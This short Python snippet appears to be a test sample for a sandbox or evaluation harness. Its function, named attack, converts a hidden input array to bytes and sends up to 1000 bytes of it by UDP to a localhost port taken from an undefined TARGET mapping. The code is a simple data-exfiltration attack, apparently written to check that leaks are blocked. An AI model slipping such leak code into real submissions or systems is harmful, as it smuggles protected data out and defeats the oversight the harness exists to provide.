"""Sends the hidden input out by UDP."""

import socket


def attack(A):
    with socket.socket(type=socket.SOCK_DGRAM) as channel:
        channel.sendto(A.tobytes()[:1000], ("127.0.0.1", TARGET["udp"]))
